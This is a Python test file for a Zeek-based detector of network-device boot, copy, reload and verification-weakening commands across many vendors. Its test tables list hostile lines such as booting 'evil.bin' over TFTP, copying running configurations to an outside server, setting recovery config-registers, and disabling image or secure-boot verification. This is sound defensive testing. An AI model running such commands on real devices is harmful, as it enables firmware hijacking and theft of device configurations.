"""Which lines are boot lines, and what they name: the table of forms against lines as people and devices write them."""

from __future__ import annotations

from pathlib import Path

from bootwarden.engines.find import Engine
from zeek_scripts import evaluate, literal, run

# Line: what it does, server, file.
LINES: dict[str, tuple[str, str, str]] = {
    # IOS, whole and shortened, with the file before or after the host, in any case.
    "boot system tftp://10.0.0.66/evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp evil.bin 10.0.0.66": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp 10.0.0.66 evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp evil.bin": ("boot", "", "evil.bin"),
    "boot system evil.bin 10.0.0.66": ("boot", "10.0.0.66", "evil.bin"),
    "bo sys tf x 1.1.1.1": ("boot", "1.1.1.1", "x"),
    "bo s t x 1.1.1.1": ("boot", "1.1.1.1", "x"),
    "boot system tftp evil.bin tftphost": ("boot", "tftphost", "evil.bin"),
    "boot system tftp:evil.bin": ("boot", "", "evil.bin"),
    "boot system mop evil.bin ethernet0/0": ("boot", "", "evil.bin"),
    "boot system rcp evil.bin 10.0.0.66": ("boot", "10.0.0.66", "evil.bin"),
    'boot system "tftp://10.0.0.66/evil.bin"': ("boot", "10.0.0.66", "evil.bin"),
    "boot config tftp://10.0.0.66/c": ("config", "10.0.0.66", "c"),
    "boot n tftp://10.0.0.66/network-confg": ("config", "10.0.0.66", "network-confg"),
    "boot host tftp:": ("config", "", ""),
    "boot bootldr tftp://10.0.0.66/boot.bin": ("boot", "10.0.0.66", "boot.bin"),
    "boot ipxe forever": ("boot", "", ""),
    "boot manual": ("register", "", ""),
    "boot man": ("register", "", ""),
    "BOOT SYSTEM TFTP Evil.bin 10.0.0.66": ("boot", "10.0.0.66", "Evil.bin"),
    "do copy tftp://10.0.0.66/a/b.bin flash:": ("copy", "10.0.0.66", "a/b.bin"),
    "boot system ftp://cisco:secret@10.0.0.66:2121/evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "boot system tftp://255.255.255.255/evil.bin": ("boot", "", "evil.bin"),
    "boot system tftp://[2001:db8::66]/evil.bin": ("boot", "2001:db8::66", "evil.bin"),
    "boot network tftp://boot.example.net/network-confg": ("config", "boot.example.net", "network-confg"),
    "boot host tftp edge1-confg 10.0.0.66": ("config", "10.0.0.66", "edge1-confg"),
    "boot host dhcp": ("", "", ""),
    "service config": ("config", "", ""),
    "service config-register": ("", "", ""),
    "service conf": ("config", "", ""),
    "serv conf": ("config", "", ""),
    "no service config": ("", "", ""),
    "service timestamps": ("", "", ""),
    "config-register 0x2142": ("register", "", ""),
    "config-register 0x0": ("register", "", ""),
    "config-register 0x2102": ("", "", ""),
    "config-register 0xF": ("", "", ""),
    # IOS takes decimal numbers: 8514 is 0x2142, 8450 is 0x2102.
    "config-register 8514": ("register", "", ""),
    "config-register 8450": ("", "", ""),
    "conf-reg 0x2142": ("", "", ""),
    "config-reg 0x2142": ("register", "", ""),
    "confreg 0x2142": ("register", "", ""),
    "confreg 2142": ("register", "", ""),
    "o/r 0x2142": ("register", "", ""),
    "set boot config-register 0x2142": ("register", "", ""),
    "config-register": ("", "", ""),
    "config-register never": ("", "", ""),
    "tftp-server flash:c2900.bin alias x": ("serve", "", "c2900.bin"),
    "tftp-server flash c2900.bin": ("serve", "", "flash"),
    "tftp flash:c2900.bin": ("serve", "", "c2900.bin"),
    "tftp-s nvram:startup-config": ("serve", "", "startup-config"),
    "no tftp-server flash:c2900.bin": ("", "", ""),
    "snmp-server system-shutdown": ("reload", "", ""),
    "snmp-server community secret RW": ("", "", ""),
    # Executive commands; uploads take nothing from the network.
    "copy tftp: flash:": ("copy", "", ""),
    "copy tftp flash": ("copy", "", ""),
    "copy tftp:evil.bin flash:": ("copy", "", "evil.bin"),
    "copy tftp:///evil.bin flash:": ("copy", "", "evil.bin"),
    "copy tftp: bootflash: vrf management": ("copy", "", ""),
    "copy tftp: running-config": ("copy", "", ""),
    "copy http://10.0.0.66/x.bin flash:": ("copy", "10.0.0.66", "x.bin"),
    "COPY TFTP://10.0.0.66/X.bin FLASH:": ("copy", "10.0.0.66", "X.bin"),
    "copy tftp startup-config 10.0.0.66 c": ("copy", "10.0.0.66", "c"),
    "copy scp://10.0.0.66/x flash:": ("copy", "10.0.0.66", "x"),
    "copy tftp flash 10.0.0.66 KB_16.swi primary": ("copy", "10.0.0.66", "KB_16.swi"),
    "copy running-config tftp://10.0.0.66/x": ("send", "10.0.0.66", "x"),
    "copy flash:x tftp:": ("send", "", "flash:x"),
    "copy running-config startup-config": ("", "", ""),
    "copyright tftp": ("", "", ""),
    "copy /noverify tftp://10.0.0.66/x.bin flash:": ("copy", "10.0.0.66", "x.bin"),
    "configure replace tftp://10.0.0.66/c force": ("copy", "10.0.0.66", "c"),
    "configure terminal": ("", "", ""),
    "configure network": ("copy", "", ""),
    "configure overwrite-network": ("copy", "", ""),
    "configure replace flash:c": ("", "", ""),
    "configure memory": ("", "", ""),
    "archive config": ("", "", ""),
    "archive tar /xtract tftp://10.0.0.66/x.tar flash:": ("copy", "10.0.0.66", "x.tar"),
    "ar d /over tftp://10.0.0.66/x.tar": ("copy", "10.0.0.66", "x.tar"),
    "request platform software package install rp 0 file tftp://10.0.0.66/x.bin": ("copy", "10.0.0.66", "x.bin"),
    "install add source tftp://10.0.0.66/ asr9k.pie": ("copy", "10.0.0.66", ""),
    "install all nxos tftp://10.0.0.66/nxos.bin vrf management": ("copy", "10.0.0.66", "nxos.bin"),
    "install activate": ("", "", ""),
    "admin install add source tftp://10.0.0.66/x": ("copy", "10.0.0.66", "x"),
    "upgrade rommon tftp://10.0.0.66/asa.spa": ("copy", "10.0.0.66", "asa.spa"),
    "upgrade rom-monitor filename tftp:rom.pkg": ("copy", "", "rom.pkg"),
    "archive download-sw /overwrite /reload tftp://10.0.0.66/c3750.tar": ("copy", "10.0.0.66", "c3750.tar"),
    "install add file tftp://10.0.0.66/cat9k.bin activate commit": ("copy", "10.0.0.66", "cat9k.bin"),
    "software install file tftp://10.0.0.66/cat3k.bin": ("copy", "10.0.0.66", "cat3k.bin"),
    "upgrade rom-monitor file tftp://10.0.0.66/rom.pkg": ("copy", "10.0.0.66", "rom.pkg"),
    "tclsh tftp://10.0.0.66/f.tcl": ("copy", "10.0.0.66", "f.tcl"),
    # Loaders.
    "boot tftp://10.0.0.66/n3100.bin": ("boot", "10.0.0.66", "n3100.bin"),
    "boot tftp:": ("boot", "", ""),
    "b evil 10.0.0.66": ("boot", "10.0.0.66", "evil"),
    "boot tftp:c1700-y-mz.bin 10.2.1.22": ("boot", "10.2.1.22", "c1700-y-mz.bin"),
    "boot tftp:c1700-y-mz.bin": ("boot", "", "c1700-y-mz.bin"),
    "boot nxos tftp://10.0.0.66/nxos.bin": ("boot", "10.0.0.66", "nxos.bin"),
    "boot kickstart tftp://10.0.0.66/k.bin": ("boot", "10.0.0.66", "k.bin"),
    "boot nxos bootflash:nxos.bin": ("", "", ""),
    "set BOOT tftp://10.0.0.66/evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "set BOOT flash:c2960.bin": ("", "", ""),
    "BOOT=tftp://10.0.0.66/evil.bin,12;": ("boot", "10.0.0.66", "evil.bin"),
    "BOOT=flash:c2900.bin": ("", "", ""),
    "SWI=tftp://10.0.0.66/EOS.swi": ("boot", "10.0.0.66", "EOS.swi"),
    "SWI=flash:/EOS.swi": ("", "", ""),
    "SERVER=10.0.0.66": ("set", "10.0.0.66", ""),
    "IMAGE=f1/asa840-232-k8.bin": ("set", "", "f1/asa840-232-k8.bin"),
    "netboot": ("boot", "", ""),
    "install --format tftp://10.0.0.66/jinstall-ex.tgz": ("copy", "10.0.0.66", "jinstall-ex.tgz"),
    "tftpboot 0x81000000 10.0.0.66:evil.img": ("boot", "10.0.0.66", "evil.img"),
    "tftpboot ${loadaddr} evil.img": ("boot", "", "evil.img"),
    "tftpboot": ("boot", "", ""),
    "tftp 81000000 evil.img": ("boot", "", "evil.img"),
    "dhcp 0x81000000 10.0.0.66:evil.img": ("boot", "10.0.0.66", "evil.img"),
    "setenv bootfile evil.img": ("set", "", "evil.img"),
    "setenv bootcmd 'tftpboot 0x81000000 evil.img; bootm'": ("boot", "", ""),
    "setenv bootcmd 'bootm 0x9f020000'": ("", "", ""),
    "/system routerboard settings set boot-device=try-ethernet-once-then-nand": ("boot", "", ""),
    "/system/routerboard/settings set boot-device=ethernet": ("boot", "", ""),
    "/system routerboard settings set boot-device=nand-only": ("", "", ""),
    "tftpdnld -r": ("boot", "", ""),
    "TFTP_SERVER=10.0.0.66": ("set", "10.0.0.66", ""),
    "TFTP_FILE=evil.bin": ("set", "", "evil.bin"),
    "setenv serverip 10.0.0.66": ("set", "10.0.0.66", ""),
    # Other vendors.
    "request system software add tftp://10.0.0.66/j.tgz no-validate": ("copy", "10.0.0.66", "j.tgz"),
    "request system reboot": ("reload", "", ""),
    "load override tftp://10.0.0.66/j.conf": ("copy", "10.0.0.66", "j.conf"),
    "tftp 10.0.0.66 get vrp.cc": ("copy", "10.0.0.66", "vrp.cc"),
    "tftp 10.0.0.66 put vrp.cc": ("send", "10.0.0.66", "vrp.cc"),
    "tftp -a 10.0.1.1 10.0.0.66 get vrp.cc": ("copy", "10.0.0.66", "vrp.cc"),
    "tftp 10.0.0.66 vpn-instance m get vrp.cc flash:/vrp.cc": ("copy", "10.0.0.66", "vrp.cc"),
    "tftp get 10.0.0.66 x.cfg": ("copy", "10.0.0.66", "x.cfg"),
    "tftp 10.0.0.66": ("", "", ""),
    "tftp": ("", "", ""),
    "dhcp enable": ("", "", ""),
    "download image 10.0.0.66 summit.xos vr VR-Default": ("copy", "10.0.0.66", "summit.xos"),
    "run request system software add tftp://10.0.0.66/j.tgz": ("copy", "10.0.0.66", "j.tgz"),
    "request vmhost software add tftp://10.0.0.66/j.tgz": ("copy", "10.0.0.66", "j.tgz"),
    "request system software rollback": ("", "", ""),
    "load merge terminal": ("", "", ""),
    "set system autoinstallation configuration-servers tftp://10.0.0.66/j": ("config", "10.0.0.66", "j"),
    "set system autoinstallation usb": ("config", "", ""),
    "set system host-name boot": ("", "", ""),
    "boot poap enable": ("config", "", ""),
    "boot autoinstall start": ("config", "", ""),
    "boot autoinstall stop": ("", "", ""),
    "zerotouch enable": ("config", "", ""),
    "zerotouch cancel": ("", "", ""),
    "zerotouch disable": ("", "", ""),
    "boot set-default flash primary": ("", "", ""),
    "boot system flash primary": ("", "", ""),
    "boot-loader file flash:/x.ipe all main": ("", "", ""),
    "startup system-software flash:/x.cc": ("", "", ""),
    "upgrade system tftp://10.0.0.66/FTOS.bin A:": ("copy", "10.0.0.66", "FTOS.bin"),
    "boot system stack-unit 1 primary tftp://10.0.0.66/FTOS.bin": ("boot", "10.0.0.66", "FTOS.bin"),
    "add system image tftp://10.0.0.66/vyos.iso": ("copy", "10.0.0.66", "vyos.iso"),
    "auto-tftp 10.0.0.66 KB_evil.swi": ("boot", "10.0.0.66", "KB_evil.swi"),
    "execute restore image tftp fgt.out 10.0.0.66": ("copy", "10.0.0.66", "fgt.out"),
    # Restarts.
    "reload": ("reload", "", ""),
    "relo in 5": ("reload", "", ""),
    "reload cancel": ("", "", ""),
    "reload c": ("", "", ""),
    "reload warm": ("reload", "", ""),
    "reload warm file tftp://10.0.0.66/evil.bin": ("boot", "10.0.0.66", "evil.bin"),
    "reload at 03:00": ("reload", "", ""),
    "execute reboot": ("reload", "", ""),
    "reload ?": ("", "", ""),
    "reboot": ("reload", "", ""),
    # What a device sends, and what lowers its guard.
    "copy running-config tftp://10.0.0.66/c": ("send", "10.0.0.66", "c"),
    "copy run tftp:": ("send", "", "run"),
    "copy flash:x.pcap ftp://u:p@10.0.0.66/x.pcap": ("send", "10.0.0.66", "x.pcap"),
    "copy running-config tftp 10.0.0.66 c": ("send", "10.0.0.66", "c"),
    "show tech-support | redirect tftp://10.0.0.66/t": ("send", "10.0.0.66", "t"),
    "show version | include tftp://10.0.0.66/t": ("", "", ""),
    "monitor capture a export tftp://10.0.0.66/x.pcap": ("send", "10.0.0.66", "x.pcap"),
    "archive tar /create tftp://10.0.0.66/x.tar flash:": ("send", "10.0.0.66", "x.tar"),
    "tftp 10.0.0.66 put vrpcfg.zip": ("send", "10.0.0.66", "vrpcfg.zip"),
    "no file verify auto": ("weaken", "", ""),
    "no file prompt": ("", "", ""),
    "setenv verify n": ("weaken", "", ""),
    "setenv verify y": ("", "", ""),
    "/system/routerboard/settings/set protected-routerboot=disabled": ("weaken", "", ""),
    "sudo mokutil --disable-validation": ("weaken", "", ""),
    # Vendors at large.
    "/tool fetch url=tftp://10.0.0.66/x.npk": ("copy", "10.0.0.66", "x.npk"),
    "/tool/fetch mode=tftp address=10.0.0.66 src-path=x.npk": ("copy", "10.0.0.66", "x.npk"),
    "/ip tftp add real-filename=x.npk": ("serve", "", ""),
    "LOAD METHOD=TFTP FILE=54-281.rez SERVER=10.0.0.66": ("copy", "10.0.0.66", "54-281.rez"),
    "onie-nos-install tftp://10.0.0.66/onie-installer": ("copy", "10.0.0.66", "onie-installer"),
    "sudo sonic-installer install http://10.0.0.66/sonic.bin": ("copy", "10.0.0.66", "sonic.bin"),
    "bof primary-image ftp://u:p@10.0.0.66/TiMOS": ("boot", "10.0.0.66", "TiMOS"),
    "admin reboot now": ("reload", "", ""),
    "firmware upgrade ip-address 10.0.0.66 filename x.bin": ("copy", "10.0.0.66", "x.bin"),
    "copy startup-config tftp ip-address 10.0.0.66 filename c": ("send", "10.0.0.66", "c"),
    "download firmware_fromTFTP 10.0.0.66 x.had": ("copy", "10.0.0.66", "x.had"),
    "upload cfg_toTFTP 10.0.0.66 c": ("send", "10.0.0.66", "c"),
    "tftp import software from 10.0.0.66 file PanOS": ("copy", "10.0.0.66", "PanOS"),
    "tftp export configuration from running-config.xml to 10.0.0.66": ("send", "10.0.0.66", ""),
    "request restart system": ("reload", "", ""),
    # Looking, removing, local sources, prose.
    "show running-config | include boot system tftp": ("", "", ""),
    "no boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "default boot system": ("", "", ""),
    "undo startup system-software": ("", "", ""),
    "! boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "boot system flash:c2900.bin": ("", "", ""),
    "boot system switch all flash:/x.bin": ("", "", ""),
    "boot system switch all tftp://10.0.0.66/x.bin": ("boot", "10.0.0.66", "x.bin"),
    "boot-start-marker": ("", "", ""),
    "boot the system by tftp these days": ("", "", ""),
    "show boot": ("", "", ""),
    "default boot host": ("", "", ""),
    "# boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "undo boot-loader": ("", "", ""),
    "display startup": ("", "", ""),
    # Part of many attacks, but nothing of a boot.
    "ip tftp source-interface Vlan1": ("", "", ""),
    "ip tftp blocksize 8192": ("", "", ""),
    "vstack": ("", "", ""),
    "erase flash:": ("", "", ""),
    "delete /force flash:c2900.bin": ("", "", ""),
    "write memory": ("", "", ""),
    "no logging host 10.0.0.5": ("", "", ""),
    "clear logging": ("", "", ""),
    "enable secret reload": ("", "", ""),
    "username boot password tftp://10.0.0.66/x": ("", "", ""),
    "description boot system tftp://10.0.0.66/evil.bin": ("", "", ""),
    "boot system tftp ?": ("", "", ""),
    "banner motd tftp://10.0.0.66/x": ("", "", ""),
    "install it from the server": ("", "", ""),
    "": ("", "", ""),
    "boot": ("", "", ""),
}

# What is typed, and what it becomes.
EDITED = {
    "reload": "reload",
    "show\b\b\b\breload": "reload",
    "\x7f\x7freload": "reload",
    "no shut\x15reload": "reload",
    "no shut\x18reload": "reload",
    "boot system tftp x\x03": "",
    "boot sys\ttftp x": "boot sys tftp x",
    "copy oops\x17tftp: flash:": "copy tftp: flash:",
    "copy oops\x1b\x7ftftp: flash:": "copy tftp: flash:",
    # Left four times, a letter, and on; the same by Ctrl-B and by SS3.
    "reoad\x1b[D\x1b[D\x1b[Dl": "reload",
    "reoad\x02\x02\x02l": "reload",
    "reoad\x1bOD\x1bOD\x1bODl": "reload",
    "load\x01re\x05 in 5": "reload in 5",
    "load\x1b[Hre\x1b[F in 5": "reload in 5",
    "xreload\x01\x04": "reload",
    "xreload\x1b[1~\x1b[3~": "reload",
    "show reload\x01\x1bd": " reload",
    "reload cancel\x1bb\x0b": "reload ",
    "reload\x1b[C\x06": "reload",
    "reload\x1b[15~": "reload",
    "rel\0oad": "reload",
    # Help amid a line is no part of it, help at its end runs nothing.
    "boot system ?tftp x": "boot system tftp x",
    "reload ?": "reload ?",
    "\x1b[": "",
    "\x1b": "",
    "": "",
}

# What is printed, and what a terminal shows of it.
SHOWN = {
    "edge1#reload": "edge1#reload",
    "edge1#show\b \b\b \b\b \b\b \breload": "edge1#reload",
    "edge1#reoad\b\b\bload\b\b\b": "edge1#reload",
    "edge1#show clock\r\x1b[Kedge1#reload": "edge1#reload",
    "edge1#show clock\x1b[10D\x1b[Kreload": "edge1#reload",
    "edge1#rload\x1b[4D\x1b[@e": "edge1#reload",
    "edge1#rexload\x1b[5D\x1b[P": "edge1#reload",
    "edge1#re\x1b[Cx": "edge1#rex",
    "\x1b[1medge1#\x1b[0mreload\x07": "edge1#reload",
    "\x1b[99999999999999999999Dx\b\b\b\b": "x",
}


def meaning(line: str) -> str:
    """A Zeek expression: what a line does, the server and the file that it names."""
    call = f"boot_line({literal(line)})"
    named = ", ".join(f'{call}?${field} ? {call}${field} : ""' for field in ("server", "file_name"))
    return f'fmt("%s|%s|%s", {call}$act, {named})'


def test_boot_lines(zeek: Engine, tmp_path: Path) -> None:
    found = dict(zip(LINES, evaluate(zeek, tmp_path, [meaning(line) for line in LINES]), strict=True))
    assert found == {line: "|".join(expected) for line, expected in LINES.items()}


def test_no_password_is_kept(zeek: Engine, tmp_path: Path) -> None:
    lines = ["boot system ftp://cisco:hunter2@10.0.0.66/x", "copy http://u:hunter2@10.0.0.66/x flash:"]
    found = evaluate(zeek, tmp_path, [f"boot_line({literal(line)})" for line in lines])
    assert len(found) == 2
    assert "hunter2" not in "".join(found)
    assert all("10.0.0.66" in line for line in found)


def test_secrets_behind_their_words_are_left_out(zeek: Engine, tmp_path: Path) -> None:
    lines = [
        'set system autoinstallation configuration-servers ftp://10.0.0.66/x password "hunter2"',
        "boot system ftp://cisco:hunt@er2@10.0.0.66/x",
    ]
    found = evaluate(zeek, tmp_path, [f"boot_line({literal(line)})" for line in lines])
    assert len(found) == 2
    assert "hunt" not in "".join(found) and "er2" not in "".join(found)
    assert all("server=10.0.0.66" in line for line in found)


def test_line_editing(zeek: Engine, tmp_path: Path) -> None:
    found = evaluate(zeek, tmp_path, [f"edited_line({literal(typed)})" for typed in EDITED])
    assert dict(zip(EDITED, found, strict=True)) == EDITED


def test_shown_lines(zeek: Engine, tmp_path: Path) -> None:
    found = evaluate(zeek, tmp_path, [f"shown_line({literal(printed)})" for printed in SHOWN])
    assert dict(zip(SHOWN, found, strict=True)) == SHOWN


# A line with several commands, and what each does.
SEQUENCES = {
    "configure terminal ; boot nxos tftp://10.0.0.66/n.bin": ["boot"],
    "conf t ; interface loopback1": [],
    "setenv serverip 10.0.0.66; tftpboot 0x81000000 evil.img; bootm": ["set", "boot"],
    "description x; boot system tftp://10.0.0.66/x": [],
    "! x; reload": [],
    "banner motd ;boot system tftp://10.0.0.66/x;": [],
    "show clock ; reload": ["reload"],
    "cli copy tftp://10.0.0.66/e running-config": ["copy"],
    'action 2.0 cli command "copy tftp://10.0.0.66/e running-config" pattern "confirm"': ["copy"],
    'ios_config "interface Lo0" "boot system tftp://10.0.0.66/x"': ["boot"],
    'bash FastCli -p 15 -c "configure ; reload now"': ["reload"],
    "alias exec x reload": [],
    'action 1 syslog msg "reload"': [],
    "cli cli cli reload": ["reload"],
    "cli cli cli cli reload": [],
}


def test_several_commands_in_a_line(zeek: Engine, tmp_path: Path) -> None:
    script = "function acts(l: string): string { local s: vector of string; for ( _, b in boot_lines(l) ) s += b$act; "
    script += 'return join_string_vec(s, ","); }\n'
    script += "event zeek_init() {" + "".join(f"print acts({literal(line)});" for line in SEQUENCES) + "}\n"
    found = run(zeek, tmp_path, script).split("\n")[:-1]
    assert found == [",".join(acts) for acts in SEQUENCES.values()]
